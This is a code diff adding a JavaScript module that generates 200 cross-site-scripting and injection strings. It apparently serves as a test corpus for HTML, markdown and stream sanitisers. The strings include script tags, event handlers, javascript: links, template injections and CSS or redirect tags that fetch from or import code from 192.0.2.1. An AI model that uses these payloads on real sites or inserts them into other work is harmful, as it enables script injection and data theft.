@@ -1,0 +1,48 @@
+// 200 texts that would run, or fetch something, in a page that took them for HTML, an address or a style.
+const scripts = ['harmed=1', 'globalThis.harmed=1', 'alert(1)', "fetch('http://192.0.2.1/')", "import('http://192.0.2.1/x.js')"];
+const frames = [
+  (s) => `<script>${s}</script>`,
+  (s) => `<script type=module>${s}</script>`,
+  (s) => `<img src=x onerror="${s}">`,
+  (s) => `<svg onload="${s}">`,
+  (s) => `<svg><script>${s}</script></svg>`,
+  (s) => `<iframe srcdoc="<script>parent.${s}</script>"></iframe>`,
+  (s) => `<a href="javascript:${s}">press</a>`,
+  (s) => `[press](javascript:${s})`,
+  (s) => `![x](x" onerror="${s})`,
+  (s) => `<body onload=${s}>`,
+  (s) => `<details open ontoggle="${s}">`,
+  (s) => `<input autofocus onfocus="${s}">`,
+  (s) => `"><script>${s}</script>`,
+  (s) => `';${s};//`,
+  (s) => `\${${s}}`,
+  (s) => `{{constructor.constructor("${s}")()}}`,
+  (s) => `</textarea><script>${s}</script>`,
+  (s) => `</style><style>@import "http://192.0.2.1/${s}";</style>`,
+  (s) => `<link rel=stylesheet href="http://192.0.2.1/?${s}">`,
+  (s) => `<meta http-equiv=refresh content="0;url=http://192.0.2.1/?${s}">`,
+  (s) => `<base href="http://192.0.2.1/?${s}">`,
+  (s) => `<object data="data:text/html,<script>${s}</script>"></object>`,
+  (s) => `<form action="http://192.0.2.1/?${s}"><button>press</button></form>`,
+  (s) => `<math><mtext><img src=x onerror="${s}"></mtext></math>`,
+  (s) => `<template shadowrootmode=open><script>${s}</script></template>`,
+  (s) => `<video src=x onerror="${s}">`,
+  (s) => `&lt;script&gt;${s}&lt;/script&gt;`,
+  (s) => `\u202e<script>${s}</script>`,
+  (s) => `<scr\u0000ipt>${s}</script>`,
+  (s) => `data: {"error": {"message": "<script>${s}</script>"}}`,
+  (s) => `data: [DONE]\n\n<script>${s}</script>`,
+  (s) => `<!--<script>${s}-->`,
+  (s) => `<![CDATA[<script>${s}</script>]]>`,
+  (s) => `<style>*{background:url("http://192.0.2.1/?${s}")}</style>`,
+  (s) => `<div style="background:url(http://192.0.2.1/?${s})">`,
+  (s) => `<img srcset="http://192.0.2.1/?${s} 1x">`,
+  (s) => `<audio autoplay onloadstart="${s}" src=x>`,
+  (s) => `<marquee onstart="${s}">`,
+  (s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`,
+  (s) => `<select><option><script>${s}</script></select>`,
+];
+
+export function hostileTexts() {
+  return frames.flatMap((frame) => scripts.map(frame));
+}
